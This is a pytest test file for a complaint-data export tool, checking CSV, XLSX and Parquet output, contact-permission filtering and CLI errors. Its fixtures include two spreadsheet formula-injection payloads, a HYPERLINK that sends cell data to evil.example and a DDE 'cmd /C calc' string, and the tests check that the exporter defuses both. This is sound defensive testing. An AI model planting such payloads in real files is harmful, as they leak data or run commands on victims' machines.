"""Export: every row where(f) selects, in CSV, XLSX and Parquet, as the viewer may see it."""
import csv
import datetime as dt
import sqlite3
import subprocess
import sys

import openpyxl
import pyarrow.parquet as pq
import pytest

from pipeline import auth, export, settings, store
from pipeline.queries.filters import Filters, where

KZ = "әғқңөұүһі"
PHONE = "+7 701 123 45 67"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"жми")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
F = Filters(dt.date(2026, 3, 1), dt.date(2026, 3, 31), district="al_farabi")
ANALYST = auth.viewer_for("aliya", "analyst")   # no contacts permission
OPERATOR = auth.viewer_for("olga", "operator")  # may see contacts


def _rows():
    """30 submissions: 24 in al_farabi in March 2026, the rest elsewhere or earlier."""
    base = dt.datetime(2026, 3, 1, 5, 0, tzinfo=dt.timezone.utc)  # 10:00 in Almaty (UTC+5)
    out = []
    for i in range(30):
        text = [f"Яма на дороге, звоните {PHONE}", f"Жолда үлкен шұңқыр бар, көше жарығы жоқ: {KZ}",
                "Нет горячей воды третий день", "Қоқыс шығарылмайды, һәм иісі жаман"][i % 4]
        if i == 3:
            text = FORMULA
        if i == 4:
            text = AT_SUM
        district = "abai" if i in (5, 6) else "al_farabi"
        received = base + dt.timedelta(hours=7 * i) if i != 7 else dt.datetime(2026, 2, 20, tzinfo=dt.timezone.utc)
        category = "roads" if i % 2 == 0 else "water"
        out.append(["hotline_109", f"s{i}", received, text, "kk" if i % 4 in (1, 3) else "ru", "shymkent", district,
                    f"ул. Абая {i}, кв. 5", f"{PHONE}; Айгуль", category, 0.5 + i / 100, "normal", "new",
                    received + dt.timedelta(days=1), None, received + dt.timedelta(days=15), None])
    # two rows at the same instant: the order falls back to id
    out[9][2] = out[8][2]
    return out


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "x.duckdb"
    con = store.connect(path)
    con.executemany(
        "INSERT INTO submissions (source, source_id, received_at, text, language, region, district, address, "
        "contact, category, category_confidence, priority, status, feedback_due_at, feedback_at, due_at, resolved_at) "
        "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", _rows())
    yield path, con
    con.close()


def _expected(con, f):
    cond, params = where(f)
    return [r[0] for r in con.execute(f"SELECT id FROM submissions WHERE {cond} ORDER BY received_at, id",
                                      params).fetchall()]


def _read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def _read_xlsx(path):
    wb = openpyxl.load_workbook(path, read_only=True)
    header, rows = None, []
    for ws in wb.worksheets:
        values = list(ws.iter_rows(values_only=True))
        assert header in (None, list(values[0]))
        header = list(values[0])
        rows += [list(v) for v in values[1:]]
    return header, rows


def _read(fmt, path):
    if fmt == "csv":
        return _read_csv(path)
    if fmt == "xlsx":
        return _read_xlsx(path)
    table = pq.read_table(path)
    return table.column_names, [list(r.values()) for r in table.to_pylist()]


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_every_selected_row_once_in_order_without_contacts(db, tmp_path, fmt):
    path, con = db
    out = tmp_path / f"out.{fmt}"
    expected = _expected(con, F)
    assert len(expected) == 27  # 30 less two in abai and one in February
    n = export.export(con, F, fmt, out, ANALYST, batch_rows=7)  # several batches
    header, rows = _read(fmt, out)
    assert n == len(rows) == len(expected)
    assert [int(r[0]) for r in rows] == expected
    codes = export.columns(ANALYST)
    assert "contact" not in codes and "address" not in codes and len(header) == len(codes)
    if fmt == "parquet":
        assert header == codes
    else:
        assert header[codes.index("text")] == "Текст обращения"
    flat = "\n".join(str(v) for r in rows for v in r)
    assert "701 123 45 67" not in flat and "Айгуль" not in flat and "кв. 5" not in flat
    assert KZ in flat and "Жолда үлкен шұңқыр" in flat and "горячей воды" in flat
    assert f"109-2026-{expected[0]:06d}" in flat


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_defused_and_numbers_stay_numbers(db, tmp_path, fmt):
    path, con = db
    out = tmp_path / f"out.{fmt}"
    export.export(con, F, fmt, out, OPERATOR)
    header, rows = _read(fmt, out)
    texts = [r[header.index("Текст обращения")] for r in rows]
    assert "'" + FORMULA in texts and "'" + AT_SUM in texts
    assert not [t for t in texts if t[0] in "=+-@\t\r"]
    district = header.index("Район")
    assert {r[district] for r in rows} == {"Аль-Фарабийский район"}
    received = rows[0][header.index("Поступило")]
    confidence = rows[0][header.index("Уверенность классификатора")]
    if fmt == "xlsx":
        assert received == dt.datetime(2026, 3, 1, 10, 0)  # local time, a real date cell
        assert isinstance(confidence, float) and isinstance(rows[0][0], int)
        wb = openpyxl.load_workbook(out, read_only=True)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
    else:
        assert received == "2026-03-01 10:00:00" and float(confidence) == 0.5
        assert out.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_a_viewer_with_contacts_gets_them(db, tmp_path, fmt):
    path, con = db
    out = tmp_path / f"out.{fmt}"
    export.export(con, F, fmt, out, OPERATOR, lang="kk")
    header, rows = _read(fmt, out)
    assert len(header) == len(export.columns(OPERATOR))
    flat = "\n".join(str(v) for r in rows for v in r)
    assert PHONE in flat and "Айгуль" in flat and "кв. 5" in flat
    if fmt != "parquet":
        assert "Өтініш мәтіні" in header and "Мекенжай" in header


def test_parquet_holds_codes_and_typed_columns(db, tmp_path):
    path, con = db
    out = tmp_path / "out.parquet"
    export.export(con, F, "parquet", out, None)
    table = pq.read_table(out)
    schema = table.schema
    assert str(schema.field("received_at").type) == f"timestamp[us, tz={settings.get('TZ')}]"
    assert str(schema.field("category_confidence").type) == "double" and str(schema.field("id").type) == "int64"
    assert set(table.column("district").to_pylist()) == {"al_farabi"}
    assert set(table.column("category").to_pylist()) == {"roads", "water"}
    assert FORMULA in table.column("text").to_pylist()  # a file for programs keeps the text as it is


def test_xlsx_continues_on_another_sheet_past_the_row_limit(db, tmp_path, monkeypatch):
    path, con = db
    monkeypatch.setattr(export, "XLSX_SHEET_ROWS", 11)  # 10 data rows a sheet
    out = tmp_path / "out.xlsx"
    assert export.export(con, F, "xlsx", out, ANALYST, batch_rows=4) == 27
    wb = openpyxl.load_workbook(out, read_only=True)
    assert [ws.max_row for ws in wb.worksheets] == [11, 11, 8]
    assert [int(r[0]) for r in _read_xlsx(out)[1]] == _expected(con, F)


def test_an_empty_selection_writes_titles_only(db, tmp_path):
    path, con = db
    f = Filters(dt.date(2020, 1, 1), dt.date(2020, 1, 2))
    for fmt in export.FORMATS:
        assert export.export(con, f, fmt, tmp_path / f"e.{fmt}", ANALYST) == 0
        header, rows = _read(fmt, tmp_path / f"e.{fmt}")
        assert rows == [] and len(header) == len(export.columns(ANALYST))


def _cli(*argv):
    return subprocess.run([sys.executable, "-m", "pipeline", "export", *argv], capture_output=True, text=True,
                          cwd=settings.ROOT, timeout=120)


def test_cli_exports_the_filter(db, tmp_path):
    path, con = db
    expected = _expected(con, Filters(dt.date(2026, 3, 1), dt.date(2026, 12, 31), district="al_farabi",
                                      category="roads"))
    con.close()
    out = tmp_path / "potholes.xlsx"
    r = _cli("--category", "roads", "--district", "al_farabi", "--since", "2026-03-01", "--until", "2026-12-31",
             "--out", str(out), "--db", str(path))
    assert r.returncode == 0, r.stderr
    assert len(r.stdout.strip().splitlines()) == 1 and f"{len(expected)} rows written to {out}" in r.stdout
    header, rows = _read_xlsx(out)
    assert [int(x[0]) for x in rows] == expected and "Контакт заявителя" not in header
    assert "701 123 45 67" not in "\n".join(str(v) for x in rows for v in x)
    out2 = tmp_path / "all.csv"
    r = _cli("--since", "2026-03-01", "--until", "2026-03-31", "--out", str(out2), "--db", str(path),
             "--with-contacts", "--user", "aliya")
    assert r.returncode == 2 and "--user 'aliya' is no user of this store" in r.stderr and not out2.exists()
    from pipeline import auth

    users = auth.connect(f"{path}.auth.sqlite")
    auth.add_user(users, "aliya", "analyst", "a-long-password")
    users.close()
    r = _cli("--since", "2026-03-01", "--until", "2026-03-31", "--out", str(out2), "--db", str(path),
             "--with-contacts", "--user", "aliya")
    assert r.returncode == 0, r.stderr
    assert PHONE in out2.read_text(encoding="utf-8-sig")
    log = sqlite3.connect(f"{path}.auth.sqlite").execute("SELECT actor, action, target FROM audit "
                                                         "WHERE action = 'export.contacts'").fetchall()
    assert log == [("aliya", "export.contacts", str(out2))]
    assert not list(tmp_path.glob(".*.partial"))


@pytest.mark.parametrize("case", ["unknown district", "existing out", "bad day", "unknown suffix"])
def test_cli_bad_input_is_one_line(db, tmp_path, case):
    path, con = db
    con.close()
    out = tmp_path / "x.csv"
    out.write_text("keep me", encoding="utf-8")
    argv = {"unknown district": ["--district", "nowhere", "--out", str(tmp_path / "y.csv")],
            "existing out": ["--out", str(out)],
            "bad day": ["--until", "31.03.2026", "--out", str(tmp_path / "y.csv")],
            "unknown suffix": ["--out", str(tmp_path / "y.txt")]}[case]
    r = _cli("--since", "2026-03-01", "--db", str(path), *argv)
    assert r.returncode != 0 and "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), r.stderr
    if case == "unknown district":
        assert "al_farabi" in lines[0] and "nowhere" in lines[0]
    assert out.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "y.csv").exists()
